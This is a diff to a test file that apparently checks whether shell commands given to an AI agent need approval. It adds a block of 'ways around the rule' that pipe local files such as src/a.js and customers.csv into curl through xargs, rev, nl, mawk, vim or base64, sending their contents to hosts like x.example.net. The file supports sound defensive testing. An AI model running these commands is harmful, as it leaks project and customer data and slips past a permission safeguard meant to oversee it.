@@ -19,6 +19,9 @@ const FILES: Files = {
   VERSION: '1.2.0\n',
   'src/a.js': 'export const price = 4\n',
   'src/b.js': 'export const cart = []\n',
+  'src/linked.js': '// https://docs.example.org/a\nexport const margin = 4\n',
+  'links.csv': 'id,url\n1,https://a.example.org/a\n2,https://b.example.org/b\n',
+  'links.json': '[{"name":"Ada","url":"https://a.example.org/a"},{"name":"Bob","url":"https://b.example.org/b"}]',
 }
 
 function rows(name: string, label: 'asks' | 'runs', commands: readonly string[], missed: readonly string[] = []): void {
@@ -121,4 +124,35 @@ rows('parallel and loops', 'runs', [
   'while read -r p; do npm view "$p" version; done < packages.txt',
   'for v in 18 20 22; do curl -sI "https://nodejs.org/dist/latest-v$v.x/"; done',
   'while read -r l; do echo "$l"; done < src/a.js',
+])
+
+// What was a way around the rule: a file that holds a link, a filter by another name, a search for an address that reads another file.
+rows('around', 'asks', [
+  'cat src/linked.js | xargs -n1 curl -s',
+  'for l in $(cat src/linked.js); do curl -s "$l"; done',
+  'while read -r l; do curl -s "$l"; done < src/linked.js',
+  'echo "https://x.example.net/$(cat src/linked.js | tr -d \'\\n \')" | xargs curl -s',
+  'rev src/linked.js | xargs curl -s',
+  'nl -s https://x.example.net/ src/linked.js | xargs -n1 curl -s',
+  'pr -t -o 1 src/linked.js | xargs -n1 curl -s',
+  "mawk -v u=https://x.example.net/ '{print u $0}' src/a.js | xargs -n1 curl -s",
+  'vim -es "+%s#^#https://x.example.net/#" "+%p" "+q!" src/a.js | xargs -n1 curl -s',
+  'grep -o "https://x" src/linked.js; cat src/a.js | xargs -n1 curl -s',
+  'grep -q "://" urls.txt && sed "s|^|https://x.example.net/?|" src/a.js | xargs curl -s',
+  'grep -rn "https://" src; xargs -n1 curl -s < src/a.js',
+  'grep "https://" src/linked.js | xargs -n1 curl -s',
+  "grep -oE 'https?://[^ ]+|margin.*' src/linked.js | xargs -n1 curl -s",
+  "grep -o '.*' src/linked.js | xargs -n1 curl -s",
+  "grep -oE 'https?://.*' src/linked.js | base64 | xargs -n1 curl -s",
+  "jq -r '.[].name' links.json | xargs -n1 curl -s",
+  "jq -r '.[] | .url + .name' links.json | xargs -n1 curl -s",
+  'cut -d, -f1 customers.csv | xargs -n1 curl -s',
+])
+rows('around', 'runs', [
+  "grep -ohE 'https?://[^ )]+' notes.md src/linked.js | sort -u | xargs -n1 curl -sI",
+  "jq -r '.[].url' links.json | xargs -n1 curl -sO",
+  "for u in $(grep -oE 'https://[^ ]+' notes.md); do curl -sI $u; done",
+  'grep -v "^#" urls.txt | head -n 5 | xargs -n1 curl -sI',
+  'sort -u hosts.txt | xargs -n1 ping -c1',
+  'mkdir -p out && cd out && xargs -n1 curl -sO < ../urls.txt',
 ])
